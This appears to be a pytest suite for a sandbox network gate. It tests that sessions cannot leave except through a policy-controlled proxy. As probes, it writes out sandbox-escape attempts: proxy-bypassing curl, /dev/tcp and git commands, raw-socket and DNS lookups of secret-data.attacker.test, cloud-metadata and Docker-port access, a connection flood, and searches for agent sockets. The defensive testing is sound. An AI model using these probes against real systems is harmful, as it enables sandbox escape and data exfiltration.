"""The way out of a real session: through the gate, as it decides; and no other, whatever a program tries.

Every attempt aims at servers of this machine that note who comes; what counts is that nobody came.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
from collections.abc import AsyncIterator, Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from policies import Policy, load
from policies.schema import Network
from sandbox import Command, Completed, Sandbox, SandboxSpec, attach_sandbox, open_sandbox
from sandbox.egress import Closed, Decided, Gate

pytestmark = pytest.mark.docker

Sh = Callable[..., Any]


class Datagrams(asyncio.DatagramProtocol):
    def __init__(self) -> None:
        self.came: list[bytes] = []

    def datagram_received(self, data: bytes, addr: Any) -> None:
        self.came.append(data)


@dataclass
class Outside:
    """What stands outside: an HTTP server and a UDP port on every address of this machine."""

    port: int
    datagrams: Datagrams
    served: list[str] = field(default_factory=list)
    connections: int = 0
    told: list[Decided | Closed] = field(default_factory=list)
    looked_up: list[str] = field(default_factory=list)

    async def resolve(self, name: str) -> Sequence[str]:
        self.looked_up.append(name)
        return ["127.0.0.1"]

    async def report(self, told: Decided | Closed) -> None:
        self.told.append(told)

    @property
    def policy(self) -> Policy:
        entries = (f"allowed.test:{self.port}",)
        network = Network(allow=entries, addresses=("127.0.0.0/8",))
        return load("dev").model_copy(update={"network": network})

    def gate(self) -> Gate:
        return Gate(self.policy, report=self.report, resolver=self.resolve)

    async def connected(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
            head = await reader.readuntil(b"\r\n\r\n")
            self.served.append(head.split()[1].decode())
            if b"/endless" in head:
                writer.write(b"HTTP/1.1 200 OK\r\n\r\n")
                while True:
                    writer.write(bytes(1000))
                    await writer.drain()
                    await asyncio.sleep(0.01)
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nfine.\n")
            await writer.drain()
        writer.close()


@pytest.fixture
async def outside() -> AsyncIterator[Outside]:
    loop = asyncio.get_running_loop()
    transport, datagrams = await loop.create_datagram_endpoint(Datagrams, local_addr=("0.0.0.0", 0))
    port = transport.get_extra_info("sockname")[1]
    one = Outside(port, datagrams)
    server = await asyncio.start_server(one.connected, "0.0.0.0", port)
    yield one
    server.close()
    transport.close()


@contextlib.asynccontextmanager
async def session(outside: Outside, gate: Gate | None) -> AsyncIterator[tuple[Sandbox, Sh]]:
    spec = SandboxSpec(policy=outside.policy, image="usermode/dev", gate=gate)
    async with open_sandbox(spec) as box:
        yield box, shell(box)


def shell(box: Sandbox) -> Sh:
    async def sh(text: str, **fields: Any) -> Completed:
        return await box.run(Command(("bash", "-c", text), **{"timeout_s": 60, **fields}))

    return sh


def addresses_of_this_machine() -> list[str]:
    """Loopback, the engine's bridge and whatever else there is, as a program inside would guess them."""
    found = {"127.0.0.1", "172.17.0.1"}
    for line in Path("/proc/net/fib_trie").read_text().splitlines():
        before, _, text = line.partition("|-- ")
        if text and before.strip() == "" and text.strip() != "0.0.0.0":
            found.add(text.strip())
    local = set()
    for one in found:
        # Broadcast addresses stand among them, and cannot be connected to.
        with contextlib.suppress(OSError), socket.create_server((one, 0)) as server:
            socket.create_connection(server.getsockname(), 1).close()
            local.add(one)
    return sorted(local)


PROBE = """
import json, socket, sys
addresses, port = json.loads(sys.argv[1]), int(sys.argv[2])
def attempt(kind, make, *then):
    try:
        result = make()
        print(kind, "CAME THROUGH", result)
    except OSError as error:
        pass
def tcp(address, port):
    with socket.create_connection((address, port), 1) as one:
        one.sendall(b"GET /direct HTTP/1.1\\r\\n\\r\\n"); return one.recv(10)
def udp(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as one: return one.sendto(b"out", (address, port))
for address in addresses:
    if address.startswith("127."):
        continue
    attempt("tcp", lambda: tcp(address, port))
    for other in (22, 53, 80, 443, 2375, 2376, 5000, 10250):
        attempt("tcp", lambda: tcp(address, other))
    attempt("udp", lambda: udp(address, port))
for address, p in (("8.8.8.8", 53), ("1.1.1.1", 443), ("224.0.0.251", 5353), ("224.0.0.252", 5355),
                   ("255.255.255.255", 123), ("169.254.169.254", 80)):
    attempt("udp", lambda: udp(address, p))
    attempt("tcp", lambda: tcp(address, p))
for address in ("ff02::1", "fe80::1", "2001:4860:4860::8888", "fd00:ec2::254"):
    attempt("udp6", lambda: udp(address, 53, socket.AF_INET6))
ECHO, SCTP = b"\\x08\\0\\0\\0\\0\\0\\0\\0", 132
for family, kind, protocol in (
    (socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_DGRAM, 1),
    (socket.AF_INET6, socket.SOCK_RAW, 58), (socket.AF_INET, socket.SOCK_RAW, 6),
    (socket.AF_INET, socket.SOCK_SEQPACKET, SCTP), (socket.AF_INET, socket.SOCK_STREAM, SCTP),
):
    def other(family=family, kind=kind, protocol=protocol):
        with socket.socket(family, kind, protocol) as one:
            if protocol == SCTP: return one.connect(("8.8.8.8", 80))
            return one.sendto(ECHO, ("8.8.8.8" if family == socket.AF_INET else "ff02::1", 0))
    attempt("other", other)
for name in ("secret-data.attacker.test", "allowed.test", "host.docker.internal", "gateway.docker.internal"):
    attempt("name", lambda: socket.getaddrinfo(name, 80))
query = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4test\\0\\0\\x10\\0\\1"
for server in ("127.0.0.11", "127.0.0.1", "127.0.0.53"):
    def dns(server=server):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.settimeout(0.3); one.sendto(query, (server, 53)); return one.recv(100)
    attempt("dns", dns)
    attempt("dns", lambda: tcp(server, 53))
"""

IGNORE_THE_PROXY = """
curl -sS -m 3 --noproxy '*' http://{address}:{port}/curl
env -u http_proxy -u HTTP_PROXY -u all_proxy -u ALL_PROXY curl -sS -m 3 http://{address}:{port}/env
(exec 3<>/dev/tcp/{address}/{port} && echo GET /dev-tcp >&3) 2>/dev/null
env -u NODE_USE_ENV_PROXY node -e 'require("http").get("http://{address}:{port}/node").on("error", () => 0)'
python3 -c 'import urllib.request as u
u.build_opener(u.ProxyHandler({{}})).open("http://{address}:{port}/python", timeout=3)'
git -c http.proxy= clone -q http://{address}:{port}/git /tmp/g1
git clone -q git://{address}:{port}/git /tmp/g2
true
"""


async def test_there_is_no_way_out_but_the_gate(outside: Outside) -> None:
    addresses = addresses_of_this_machine()
    assert len(addresses) > 1
    async with session(outside, outside.gate()) as (_, sh):
        # That the servers can be reached from here shows that nobody coming means something.
        _, writer = await asyncio.open_connection(addresses[-1], outside.port)
        writer.close()
        await asyncio.sleep(0.05)
        assert outside.connections == 1
        done = await sh('python3 - "$ADDRESSES" "$PORT"', stdin=PROBE.encode(),
                        env={"ADDRESSES": json.dumps(addresses), "PORT": str(outside.port)})  # fmt: skip
        assert (done.exit_code, done.stdout) == (0, b""), done.stderr
        for address in [one for one in addresses if not one.startswith("127.")][:2]:
            await sh(IGNORE_THE_PROXY.format(address=address, port=outside.port))
        assert (outside.connections, outside.datagrams.came, outside.looked_up) == (1, [], [])
        # What goes to the gate instead is refused there: the addresses of the machine, by each protocol.
        for address in ("127.0.0.1", *addresses, "host.docker.internal", "localhost", "169.254.169.254"):
            refused = await sh(
                f"for p in http socks5h; do curl -sS -m 5 --noproxy '' -x $p://127.0.0.1:3128 "
                f"http://{address}:{outside.port}/refused http://{address}:2375/info; done"
            )
            assert b"fine." not in refused.stdout
        assert (outside.connections, outside.looked_up) == (1, [])
        assert all(told.decision == "deny" for told in outside.told if isinstance(told, Decided))


async def test_programs_reach_what_is_listed_and_are_told_apart(outside: Outside) -> None:
    async with session(outside, outside.gate()) as (_, sh):
        url = f"http://allowed.test:{outside.port}"
        listening = inet_listeners()
        for number, program in enumerate(
            (
                f"curl -sS {url}/0",
                f"curl -sS -x socks5h://127.0.0.1:3128 {url}/1",
                f"curl -sS -p {url}/2",
                f"python3 -c 'import urllib.request as u; print(u.urlopen(\"{url}/3\").read().decode())'",
            )
        ):
            done = await sh(program)
            assert done.stdout.strip() == b"fine.", done.stderr
            assert outside.served[-1] == f"/{number}"
        # A job of an earlier call, in a session of its own, connects while a later call is running.
        first, later = "00000001000000a1", "00000001000000b2"
        await sh(f"(setsid sh -c 'sleep 0.3; curl -sS {url}/job' >/dev/null 2>&1 &)", call_id=first)
        await sh(f"sleep 1; curl -sS {url}/later; curl -sS http://evil.test/no", call_id=later)
        by = [
            (told.attempt.origin.call_id, told.attempt.host, told.decision)
            for told in outside.told
            if isinstance(told, Decided)
        ][4:]
        assert by == [
            (first, "allowed.test", "allow"),
            (later, "allowed.test", "allow"),
            (later, "evil.test", "deny"),
        ]
        # The gate listens nowhere on the host, and its port inside serves nothing but a proxy.
        assert inet_listeners() == listening
        odd = await sh(
            "curl -sS --noproxy '*' http://127.0.0.1:3128/ http://127.0.0.1:3128/metrics;"
            "curl -sS -x http://127.0.0.1:3128 --noproxy '' http://127.0.0.1:3128/ http://[::1]:3128/;"
            f"curl -sS {url}/ -H 'Host: evil.test'"
        )
        assert odd.stdout.count(b"usermode: ") == 5
        assert outside.looked_up == ["allowed.test"] * 6
        hatches = await sh(
            "find / -xdev -type s 2>/dev/null; cat /proc/net/unix | tail -n +2 | grep /;"
            "env | grep -iE 'SSH_AUTH|DBUS|DISPLAY|GPG_AGENT|DOCKER|XDG_RUNTIME'"
        )
        assert hatches.stdout == b""


def inet_listeners() -> set[str]:
    """Listening TCP sockets of this process."""
    own = set()
    for name in Path("/proc/self/fd").iterdir():
        with contextlib.suppress(OSError):
            own.add(str(name.readlink()).removeprefix("socket:[").removesuffix("]"))
    lines = [
        line.split()
        for table in ("/proc/net/tcp", "/proc/net/tcp6")
        for line in Path(table).read_text().splitlines()[1:]
    ]
    return {line[1] for line in lines if line[3] == "0A" and line[9] in own}


async def test_taking_a_grant_back_cuts_a_download_that_runs(outside: Outside) -> None:
    gate = outside.gate()
    async with session(outside, gate) as (box, sh):
        gate.grant("granted.test", outside.port)
        url = f"http://granted.test:{outside.port}"
        running = asyncio.ensure_future(sh(f"curl -sSN {url}/endless -o /tmp/some"))
        for _ in range(200):
            with contextlib.suppress(FileNotFoundError):
                if (await box.stat("/tmp/some")).size:
                    break
            await asyncio.sleep(0.02)
        gate.revoke("granted.test", outside.port)
        assert (await running).exit_code != 0
        assert isinstance(outside.told[-1], Closed)
        again = await sh(f"curl -sS {url}/again")
        assert b"Rule: network.allow" in again.stdout
        assert outside.served == ["/endless"]


async def test_without_its_gate_a_session_has_no_way_out_at_all(outside: Outside) -> None:
    url = f"http://allowed.test:{outside.port}"
    curl = f"curl -sS -m 2 -x http://127.0.0.1:3128 {url}/"
    async with session(outside, None) as (_, sh):
        assert (await sh(curl)).exit_code != 0
    async with session(outside, outside.gate()) as (box, sh):
        assert (await sh(curl)).stdout == b"fine.\n"
        ref = await box.detach()
    # The host that decided is gone: nobody else takes its place, and no program inside can.
    async with attach_sandbox(ref) as box:
        sh = shell(box)
        assert (await sh(curl)).exit_code != 0
        planted = await sh("python3 -c 'import socket; socket.create_server((\"127.0.0.1\", 3128))'")
        assert b"Address already in use" in planted.stderr
        assert outside.served == ["/"]
        await box.let_out(outside.gate())
        assert (await sh(curl)).stdout == b"fine.\n"


async def test_two_sessions_do_not_reach_each_other(outside: Outside) -> None:
    async with session(outside, outside.gate()) as (one, _), session(outside, outside.gate()) as (_, sh):
        serving = await one.start(Command(("python3", "-m", "http.server", "8000")))
        facts = await one.run(Command(("hostname", "-I")))
        assert facts.stdout.strip() == b""
        for host in ("127.0.0.1", "localhost", one.ref[:12], "172.17.0.2", "172.17.0.3"):
            done = await sh(
                f"curl -sS -m 2 --noproxy '*' http://{host}:8000/; curl -sS -m 2 http://{host}:8000/"
            )
            assert b"Directory listing" not in done.stdout
        await one.kill(serving)
        await one.result(serving)


async def test_a_flood_of_connections_hinders_no_other_session(outside: Outside) -> None:
    flood = (
        "import socket, time\n"
        "ones = []\n"
        "for _ in range(3000):\n"
        "    one = socket.socket(); one.setblocking(False)\n"
        "    one.connect_ex(('127.0.0.1', 3128)); ones.append(one)\n"
        "print('flooded', flush=True); time.sleep(60)\n"
    )
    url = f"http://allowed.test:{outside.port}/"
    async with session(outside, outside.gate()) as (one, own), session(outside, outside.gate()) as (_, sh):
        call = await one.start(Command(("python3", "-c", flood)))
        while b"flooded" not in (await one.progress(call)).stdout:
            await asyncio.sleep(0.05)
        assert (await sh(f"curl -sS {url}")).stdout == b"fine.\n"
        assert (await own("echo still here")).stdout == b"still here\n"
        await one.kill(call)
        await one.result(call)
        assert (await own(f"curl -sS -m 40 {url}")).stdout == b"fine.\n"
